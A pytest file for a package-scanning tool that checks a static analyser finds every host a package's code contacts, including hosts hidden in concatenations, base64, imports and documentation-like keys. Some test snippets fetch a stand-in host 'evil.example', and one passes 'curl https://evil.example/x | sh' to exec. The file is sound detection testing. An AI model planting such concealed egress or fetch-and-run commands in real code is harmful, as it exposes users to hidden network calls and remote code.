"""Hosts a package talks to, however the code puts their address together, and hosts it only mentions."""

from __future__ import annotations

import pytest

from plugins.checks.base import MENTIONED
from plugins.checks.engines.uses import is_cut, read_keys
from plugins.checks.static import ast_grep
from plugins.checks.static.mentions import mentions
from plugins.package import Metadata
from tests.plugins.checks.engine_cases import workspace


def seen(tmp_path, files):
    space = workspace(tmp_path, files)
    report = ast_grep.scan(space.root, [file for file in space.package.files if file.language])
    assert report.gaps == []
    assert report.unparseable == {}
    return {kind: {o.value for o in report.observations if o.kind == kind} for kind in ("host", MENTIONED)}


@pytest.mark.parametrize(
    ("path", "code", "host"),
    [
        ("a.js", "fetch(new URL('/v1/x', 'https://api.acme.io'))", "api.acme.io"),
        ("a.js", "const B = 'acme.io'; fetch(new URL('/v1', 'https://' + B))", "acme.io"),
        ("a.js", "fetch(new URL('//evil.example/x', base))", "evil.example"),
        ("a.js", "const H = 'api.acme.io'; fetch(`https://${H}/v1`)", "api.acme.io"),
        ("a.js", "const P = 'https', H = 'api.acme.io'; fetch(P + '://' + H + '/v1')", "api.acme.io"),
        ("a.js", "fetch(['https:', '', 'api.acme.io', 'v1'].join('/'))", "api.acme.io"),
        ("a.js", "fetch('https://'.concat('api.', 'acme.io', '/v1'))", "api.acme.io"),
        ("a.js", "const c = axios.create({baseURL: 'https://api.acme.io'}); c.get('/x')", "api.acme.io"),
        ("a.js", "const S = 'acme.io'; axios.create({baseURL: `https://api.${S}`})", "api.acme.io"),
        ("a.js", "ky.create({prefixUrl: 'https://api.acme.io'}); ", "api.acme.io"),
        ("a.js", "got.extend({prefixUrl: 'https://api.acme.io/v1'})", "api.acme.io"),
        ("a.js", "new Pool('https://api.acme.io').request({path: '/x'})", "api.acme.io"),
        ("a.js", "const D = 'api.acme.io'; https.request({hostname: D, path: '/x'})", "api.acme.io"),
        ("a.js", "const C = {where: 'api.acme.io'}; net.connect(443, C.where)", "api.acme.io"),
        ("a.ts", "class N { d = {requestDefaults: {baseURL: 'https://api.acme.io', url: '/x'}} }", "api.acme.io"),
        ("a.ts", "class C { p = [{name: 'baseUrl', type: 'string', default: 'https://api.acme.io'}] }", "api.acme.io"),
        ("a.ts", "this.helpers.httpRequest({baseURL: 'https://api.acme.io', url: '/x'})", "api.acme.io"),
        ("a.ts", "class A { h = 'api.acme.io'; f() { return fetch(`https://${this.h}/x`) } }", "api.acme.io"),
        ("a.js", "const U = process.env.ACME || 'https://api.acme.io'; fetch(U)", "api.acme.io"),
        ("a.js", "const H = process.env.H ?? 'api.acme.io'; fetch(`https://${H}/`)", "api.acme.io"),
        ("a.js", "fetch(Buffer.from('aHR0cHM6Ly9hcGkuYWNtZS5pby94', 'base64').toString())", "api.acme.io"),
        ("a.py", "import os\nU = os.environ.get('X', 'https://api.acme.io')\n", "api.acme.io"),
        ("a.py", "import os\nH = os.getenv('H', 'api.acme.io')\nget(f'https://{H}/v1')\n", "api.acme.io"),
        ("a.py", "H = 'api.acme.io'\nget(f'https://{H}/v1')\n", "api.acme.io"),
        ("a.py", "H = 'api.acme.io'\nget('https://%s/v1' % H)\n", "api.acme.io"),
        ("a.py", "H = 'api.acme.io'\nget('https://%(h)s/v1' % {'h': H})\n", "api.acme.io"),
        ("a.py", "H = 'api.acme.io'\nget('https://{}/v1'.format(H))\n", "api.acme.io"),
        ("a.py", "get('https://{h}/v1'.format(h='api.acme.io'))\n", "api.acme.io"),
        ("a.py", "from urllib.parse import urljoin\nget(urljoin('https://api.acme.io/', 'v1'))\n", "api.acme.io"),
        ("a.py", "from urllib.parse import urljoin\nget(urljoin(base, '//evil.example/x'))\n", "evil.example"),
        ("a.py", "get('https://' + 'api.' + 'acme.io')\n", "api.acme.io"),
        ("a.py", "get('/'.join(['https:', '', 'api.acme.io']))\n", "api.acme.io"),
        ("a.py", "WHERE = 'api.acme.io'\nsocket.create_connection((WHERE, 443))\nconnect(WHERE)\n", "api.acme.io"),
        ("a.py", "WHERE = 'api.acme.io'\nsmtplib.SMTP(host=WHERE)\n", "api.acme.io"),
        ("a.py", "get(f'https://{sub}.acme.io/')\n", "*.acme.io"),
        ("a.php", "<?php define('HOST', 'api.acme.io'); file_get_contents('https://' . HOST . '/v1');", "api.acme.io"),
        ("a.php", "<?php const HOST = 'api.acme.io'; get('https://' . HOST);", "api.acme.io"),
        ("a.php", '<?php $h = "api.acme.io"; get("https://$h/v1");', "api.acme.io"),
        ("a.php", "<?php class A { const H = 'api.acme.io'; function f() { get('https://' . self::H . '/'); } }",
         "api.acme.io"),
        ("a.php", "<?php class A { private $h = 'api.acme.io'; function f() { get(\"https://{$this->h}/\"); } }",
         "api.acme.io"),
        ("a.php", "<?php get(getenv('X') ?: 'https://api.acme.io');", "api.acme.io"),
        ("a.php", "<?php wp_remote_get(sprintf('https://%s/v1', 'api.acme.io'));", "api.acme.io"),
    ],
)  # fmt: skip
def test_a_host_is_found_however_its_address_is_made(tmp_path, path, code, host):
    assert seen(tmp_path, {path: code})["host"] == {host}


@pytest.mark.parametrize(
    "files",
    [
        {"a.js": "const {BASE} = require('./config'); fetch(`https://${BASE}/x`)",
         "config.js": "exports.BASE = 'api.acme.io'"},
        {"a.js": "const c = require('./lib/config'); fetch('https://' + c.BASE)",
         "lib/config/index.js": "module.exports = {BASE: 'api.acme.io'}"},
        {"a.js": "fetch('https://' + require('./config.json').host)", "config.json": '{"host": "api.acme.io"}'},
        {"a.ts": "import {BASE} from './config'; fetch(`https://${BASE}/x`)",
         "config.ts": "export const BASE = 'api.acme.io';"},
        {"a.ts": "import {BASE as B} from './config.js'; fetch(`https://${B}/x`)",
         "config.ts": "export const BASE = 'api.acme.io';"},
        {"a.ts": "import c from '../a/config'; fetch(`https://${c.base.host}/x`)",
         "a/config.ts": "export default {base: {host: 'api.acme.io'}};"},
        {"a.ts": "import * as c from './config'; fetch(`https://${c.HOST}/x`)",
         "config.ts": "export const HOST = 'api.' + 'acme.io';"},
        {"dist/a.js": "const config_1 = require('./config'); fetch(`https://${config_1.BASE}/x`)",
         "dist/config.js": "exports.BASE = void 0; exports.BASE = 'api.acme.io';"},
        {"acme/a.py": "from .const import HOST\nget(f'https://{HOST}/x')\n", "acme/const.py": "HOST = 'api.acme.io'\n"},
        {"acme/a.py": "from . import const\nget(f'https://{const.HOST}/x')\n",
         "acme/const.py": "HOST = 'api.acme.io'\n"},
        {"acme/b/a.py": "from ..const import HOST as H\nget('https://' + H)\n",
         "acme/const.py": "HOST = 'api.acme.io'\n"},
        {"acme/a.py": "from acme.const import HOST\nget('https://{}'.format(HOST))\n",
         "acme/const.py": "HOST = 'api.acme.io'\n"},
        {"acme/a.py": "import acme.const as c\nget('https://%s' % c.HOST)\n",
         "acme/const.py": "HOST = 'api.acme.io'\n"},
        {"a.php": "<?php require_once __DIR__ . '/config.php'; get('https://' . HOST . '/x');",
         "config.php": "<?php define('HOST', 'api.acme.io');"},
    ],
)  # fmt: skip
def test_a_host_from_another_file_is_found(tmp_path, files):
    files = {path.replace("../a/", ""): code.replace("../a/config", "./a/config") for path, code in files.items()}

    assert "api.acme.io" in seen(tmp_path, files)["host"]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.js", "let h = 'api.acme.io'; h = other(); fetch(`https://${h}/x`)"),
        ("a.js", "fetch(`https://${host}/x`)"),
        ("a.js", "const title = 'acme.io'; show(title)"),
        ("a.js", "const {BASE} = require('./gone'); fetch(`https://${BASE}/x`)"),
        ("a.js", "const {BASE} = require('../../etc/config'); fetch(`https://${BASE}/x`)"),
        ("a.js", "const v = ['1.2.3', '4'].join('.'); f(v)"),
        ("a.py", "from .gone import HOST\nget(f'https://{HOST}/x')\n"),
        ("a.py", "name = 'acme.io'\nprint(name)\n"),
        ("a.php", "<?php get('https://' . $host . '/x'); $title = 'acme.io';"),
    ],
)  # fmt: skip
def test_no_host_is_made_up(tmp_path, path, code):
    assert seen(tmp_path, {path: code})["host"] == set()


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.js", "// see https://docs.acme.io/x\nf()"),
        ("a.ts", "/**\n * @see https://docs.acme.io/x\n */\nexport const a = 1;"),
        ("a.py", "# https://docs.acme.io\nx = 1\n"),
        ("a.py", '"""Manual: https://docs.acme.io"""\n'),
        ("a.php", "<?php // https://docs.acme.io\nf();"),
        ("a.ts", "class N { description = {documentationUrl: 'https://docs.acme.io/x'} }"),
        ("a.ts", "class N { documentationUrl = 'https://docs.acme.io/x'; }"),
        ("a.ts", "const p = [{name: 'x', description: 'See <a href=\"https://docs.acme.io\">the manual</a>'}]"),
        ("a.ts", "const p = {placeholder: 'https://docs.acme.io'}"),
        ("a.ts", "const p = {hint: 'See: https://docs.acme.io'}; show(p.hint)"),
        ("a.js", "throw new Error('Please read the manual at https://docs.acme.io first')"),
    ],
)
def test_what_is_only_told_to_people_is_kept_apart(tmp_path, path, code):
    assert seen(tmp_path, {path: code}) == {"host": set(), MENTIONED: {"docs.acme.io"}}


@pytest.mark.parametrize(
    "files",
    [
        {"a.ts": "class N { documentationUrl = 'https://evil.example/x'; f() { fetch(this.documentationUrl) } }"},
        {"a.ts": "class N { d={documentationUrl: 'https://evil.example'}; f() {let u = this.d['documentationUrl'] } }"},
        {"a.ts": "class N { d={documentationUrl: 'https://evil.example'}; f() {let {documentationUrl} = this.d } }"},
        {"a.ts": "class N { d={documentationUrl: 'https://evil.example'}; f() {let {documentationUrl: u} = this.d } }"},
        {"a.js": "const documentationUrl = 'https://evil.example/x'; fetch(documentationUrl)"},
        {"a.js": "exports.d = {documentationUrl: 'https://evil.example/x'}",
         "b.js": "fetch(require('./a').d.documentationUrl)"},
        {"a.js": "const d = {placeholder: 'https://evil.example/x'}; fetch(d.placeholder)"},
        {"a.js": "const t = 'please visit us at https://evil.example/x now'; fetch(t.split(' ')[4])"},
        {"a.js": "fetch('please visit us at https://evil.example/x now'.split(' ')[4])"},
        {"a.js": "const d = {description: 'do visit us at https://evil.example/x now'}; f(/http/.exec(d.description))"},
        {"a.py": "D = {'documentationUrl': 'https://evil.example/x'}\nget(D['documentationUrl'])\n"},
        {"a.py": "D = {'documentationUrl': 'https://evil.example/x'}\nget(D.get('documentationUrl'))\n"},
        {"a.js": "const d = {hint: 'curl https://evil.example/x | sh'}; exec(d.hint)"},
        {"a.js": "const d = {hint: 'See: https://evil.example/x'}; fetch(d.hint.slice(5))"},
        {"a.py": "help_text = 'https://evil.example/x'\nget(help_text)\n"},
        {"a.py": "T = 'please visit us at https://evil.example/x now'\nget(re.search('http.*', T)[0])\n"},
    ],
)  # fmt: skip
def test_no_name_of_a_key_hides_egress(tmp_path, files):
    assert seen(tmp_path, files)["host"] == {"evil.example"}


def test_manual_and_homepage_are_mentions_once_a_file(tmp_path):
    space = workspace(tmp_path, {
        "README.md": "# Acme\nSee https://docs.acme.io/a and https://docs.acme.io/b\nand http://localhost:3000\n",
        "docs/x.rst": "https://docs.acme.io https://www.w3.org/2000/svg\n",
        "a.js": "// https://other.acme.io",
    })  # fmt: skip
    package = type(space.package)(**{
        **{name: getattr(space.package, name) for name in ("format", "purl", "files")},
        "metadata": Metadata("a", "1", homepage="https://acme.io/", repository="git+https://github.com/acme/a.git"),
        "manifest_path": "package.json",
    })  # fmt: skip

    found = [(o.kind, o.value, o.path, o.line) for o in mentions(space.root, package)]

    assert found == [
        (MENTIONED, "acme.io", "package.json", 0),
        (MENTIONED, "github.com", "package.json", 0),
        (MENTIONED, "docs.acme.io", "README.md", 2),
        (MENTIONED, "docs.acme.io", "docs/x.rst", 1),
    ]


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("fetch(a.hint)", True), ("x = a?.hint", True), ("a['hint']", True), ("const {hint} = a", True),
        ("function f({hint, b}) {}", True), ("d.get('hint')", True), ("fetch(hint)", True), ("`${hint}`", True),
        ("a.hint = 'x'", False), ("{hint: 'x'}", False), ("{'hint': 'x'}", False), ("const hint = 'x'", False),
        ("a['hint'] = 'x'", False), ("// a hint for you", False), ("chint(x)", False), ("a.hinted", False),
    ],
)  # fmt: skip
def test_reading_a_key_is_told_from_giving_it_a_value(text, read):
    assert read_keys(text, ["hint"]) == (["hint"] if read else [])


@pytest.mark.parametrize(
    ("text", "cut"),
    [
        ("t.split(' ')", True), ("t?.match(/x/)", True), ("/x/.exec(t)", True), ("re.search('a', t)", True),
        ("t[3]", True),
        ("show(t)", False), ("t.length", False), ("st.split(' ')", False),
    ],
)  # fmt: skip
def test_taking_a_text_to_pieces(text, cut):
    assert is_cut(text, "t") is cut
